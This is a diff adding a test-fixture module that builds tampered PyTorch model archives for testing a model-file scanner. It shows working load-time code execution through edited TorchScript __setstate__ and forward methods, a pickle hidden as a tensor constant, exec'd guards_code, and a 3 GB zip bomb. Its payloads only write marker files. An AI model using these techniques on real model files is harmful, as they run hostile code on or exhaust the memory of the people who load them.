@@ -1,0 +1,246 @@
+"""Builders for crafted model files: good archives with one part replaced, as an attacker would.
+
+Every payload writes a marker file, so a test can show it running on plain torch and not
+through sensaudit. Models read 3 features, like ``helpers_bad.Scorer``.
+"""
+
+from __future__ import annotations
+
+import json
+import pickle
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+from pathlib import Path
+
+import torch
+from helpers_bad import Payload, Scorer
+from torch import nn
+
+Edit = Callable[[str, bytes], bytes]
+
+
+def rebuild(source: Path, target: Path, edit: Edit | None = None,
+            rename: Callable[[str], str] | None = None,
+            extra: dict[str, bytes] | None = None) -> Path:
+    """Copy a zip archive member by member: ``edit(name, data)``, ``rename(name)``, plus
+    ``extra`` members (named below the archive's root folder)."""
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
+        root = src.namelist()[0].split("/")[0]
+        for info in src.infolist():
+            data = src.read(info.filename)
+            if edit is not None:
+                data = edit(info.filename, data)
+            if rename is not None:
+                info.filename = rename(info.filename)
+            out.writestr(info, data)
+        for name, data in (extra or {}).items():
+            out.writestr(f"{root}/{name}", data)
+    return target
+
+
+def edit_text(suffix: str, old: str, new: str) -> Edit:
+    """An edit replacing ``old`` by ``new`` (once, and it must be there) in the member whose
+    name ends with ``suffix``."""
+    def edit(name: str, data: bytes) -> bytes:
+        if not name.endswith(suffix):
+            return data
+        text = data.decode()
+        assert old in text, (old, text)
+        return text.replace(old, new, 1).encode()
+    return edit
+
+
+def edit_pickle_global(suffix: str, old: bytes, new: bytes) -> Edit:
+    """An edit renaming a GLOBAL ("module\\nname") in the pickle whose name ends with
+    ``suffix``: pickles name globals as newline-terminated text, so lengths may differ."""
+    def edit(name: str, data: bytes) -> bytes:
+        if not name.endswith(suffix):
+            return data
+        assert b"c" + old + b"\n" in data
+        return data.replace(b"c" + old + b"\n", b"c" + new + b"\n", 1)
+    return edit
+
+
+# --- TorchScript --------------------------------------------------------------------------
+
+
+@torch.jit.script
+class Scale:
+    """A TorchScript class (not a module) with its own state methods: held as an attribute, its
+    __setstate__ runs when the archive loads."""
+
+    def __init__(self, value: float):
+        self.value = value
+
+    def __getstate__(self) -> float:
+        return self.value
+
+    def __setstate__(self, state: float) -> None:
+        self.value = state
+
+
+class StatefulScorer(nn.Module):
+    """y = x @ w, with (benign) __getstate__/__setstate__ for a payload to be planted in."""
+
+    def __init__(self):
+        super().__init__()
+        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x @ self.w
+
+    @torch.jit.export
+    def __getstate__(self) -> tuple[torch.Tensor, bool]:
+        return (self.w, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
+        self.w = state[0]
+        self.training = state[1]
+
+
+class ScaledScorer(nn.Module):
+    """y = (x @ w) * scale.value, the scale held in a TorchScript class object."""
+
+    def __init__(self):
+        super().__init__()
+        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))
+        self.scale = Scale(1.0)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return (x @ self.w) * self.scale.value
+
+
+def scripted(model: nn.Module, path: Path) -> Path:
+    torch.jit.save(torch.jit.script(model), str(path))
+    return path
+
+
+def from_file_in_setstate(folder: Path, marker: Path) -> Path:
+    """__setstate__ maps ``marker`` writable with torch.from_file(shared=True) and copies
+    b'pwned' into it: a file written while torch.jit.load runs."""
+    base = scripted(StatefulScorer(), folder / "stateful.pt")
+    # The result is used (added, times 0, to a weight) so TorchScript keeps the write.
+    payload = (f'    _p = torch.tensor([112, 119, 110, 101, 100], dtype=0)\n'
+               f'    _t = torch.from_file("{marker}", True, 5, dtype=0)\n'
+               f'    _u = torch.copy_(_t, _p)\n'
+               f'    self.w = torch.add((state)[0], torch.mul(torch.sum(_u), 0))\n')
+    old = "    self.training = (state)[1]\n"
+    return rebuild(base, folder / "evil_from_file.pt",
+                   edit_text("code/__torch__/helpers_crafted.py", old, old + payload))
+
+
+def save_in_setstate(folder: Path, marker: Path) -> Path:
+    """__setstate__ calls aten::save: ``marker`` is written while torch.jit.load runs."""
+    base = scripted(StatefulScorer(), folder / "stateful.pt")
+    old = "    self.training = (state)[1]\n"
+    return rebuild(base, folder / "evil_save_state.pt",
+                   edit_text("code/__torch__/helpers_crafted.py", old,
+                             old + f'    _s = torch.save((state)[0], "{marker}")\n'))
+
+
+def save_in_forward(folder: Path, marker: Path) -> Path:
+    """forward calls aten::save: ``marker`` is written each time the model runs."""
+    base = scripted(Scorer(), folder / "plain.pt")
+    return rebuild(base, folder / "evil_save_forward.pt",
+                   edit_text("code/__torch__/helpers_bad.py", "    w = self.w\n",
+                             f'    w = self.w\n    _s = torch.save(x, "{marker}")\n'))
+
+
+def ops_save_in_helper_function(folder: Path, marker: Path) -> Path:
+    """A free function in another code file (nn.functional.relu, which nn.ReLU calls) writes
+    ``marker`` through ops.aten.save: not the module's own code, not spelled torch.save."""
+    base = scripted(nn.Sequential(nn.Linear(3, 1), nn.ReLU()), folder / "seq.pt")
+    return rebuild(base, folder / "evil_ops_save.pt",
+                   edit_text("code/__torch__/torch/nn/functional.py", "  if inplace:\n",
+                             f'  _s = ops.aten.save(input, "{marker}")\n  if inplace:\n'))
+
+
+def save_in_helper_class_setstate(folder: Path, marker: Path) -> Path:
+    """The __setstate__ of a TorchScript class held as an attribute (not of the module) writes
+    ``marker`` through ops.aten.save while torch.jit.load runs."""
+    base = scripted(ScaledScorer(), folder / "scaled.pt")
+    old = "    self.value = state\n"
+    return rebuild(base, folder / "evil_helper_state.pt",
+                   edit_text("code/__torch__/helpers_crafted.py", old,
+                             old + f'    _s = ops.aten.save(state, "{marker}")\n'))
+
+
+# --- .pt2 ---------------------------------------------------------------------------------
+
+
+class WithConstant(nn.Module):
+    """y = x @ w + k, k a tensor constant: torch.export saves it under data/constants/."""
+
+    def __init__(self):
+        super().__init__()
+        self.w = nn.Parameter(torch.tensor([1.0, 2.0, -1.0]))
+        self.k = torch.tensor([0.5])
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x @ self.w + self.k
+
+
+def opaque_constant(source: Path, target: Path, marker: Path) -> Path:
+    """The constant's member renamed opaque_obj_0 and holding a pickle: torch.export.load picks
+    pickle.loads from that name, while the JSON still says use_pickle: false with a
+    tensor_meta (of the payload's size, so torch's own size check passes)."""
+    payload = pickle.dumps(Payload(marker))
+    payload += b"\0" * (-len(payload) % 4)  # whole float32 elements
+
+    def edit(name: str, data: bytes) -> bytes:
+        if name.endswith("data/constants/tensor_0"):
+            return payload
+        if name.endswith("model_constants_config.json"):
+            index = json.loads(data)
+            index["config"]["k"]["path_name"] = "opaque_obj_0"
+            index["config"]["k"]["tensor_meta"]["sizes"] = [{"as_int": len(payload) // 4}]
+            return json.dumps(index).encode()
+        return data
+
+    return rebuild(source, target, edit,
+                   rename=lambda name: name.replace("constants/tensor_0", "constants/opaque_obj_0"))
+
+
+def guards_code(source: Path, target: Path, marker: Path) -> Path:
+    """guards_code holds Python: ExportedProgram.module() exec's it into the module's guard
+    function, which runs on every call."""
+    def edit(name: str, data: bytes) -> bytes:
+        if name.endswith("models/model.json"):
+            program = json.loads(data)
+            program["guards_code"] = [f"open({str(marker)!r}, 'w').write('payload ran') > 0"]
+            return json.dumps(program).encode()
+        return data
+    return rebuild(source, target, edit)
+
+
+def inflating_weight(source: Path, target: Path, size: int = 3 * 2**30) -> Path:
+    """weight_0 replaced by a deflated member that inflates to ``size`` bytes of zeros (3 GB by
+    default, in about 3 MB): what torch would allocate, since it trusts the zip directory."""
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
+    chunk = bytes(2**20)
+    # After a full flush the compressor starts afresh, so every further 1 MiB of zeros
+    # compresses to the same bytes: the stream is built by repetition, without 3 GB of work.
+    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
+    again = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
+    stream = first + again * (size // 2**20 - 1) + compressor.flush(zlib.Z_FINISH)
+    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as out:
+        for info in src.infolist():
+            if not info.filename.endswith("data/weights/weight_0"):
+                out.writestr(info, src.read(info.filename))
+                continue
+            # Written stored, then relabelled as deflated with the inflated size (CRC left 0:
+            # nothing reads that far).
+            header_at = out.fp.tell()
+            out.writestr(info, stream)
+            bomb = out.filelist[-1]
+            bomb.compress_type, bomb.file_size, bomb.CRC = zipfile.ZIP_DEFLATED, size, 0
+            end = out.fp.tell()
+            out.fp.seek(header_at + 8)
+            out.fp.write(struct.pack("<H", zipfile.ZIP_DEFLATED))
+            out.fp.seek(header_at + 14)
+            out.fp.write(struct.pack("<III", 0, len(stream), size))
+            out.fp.seek(end)
+    return target
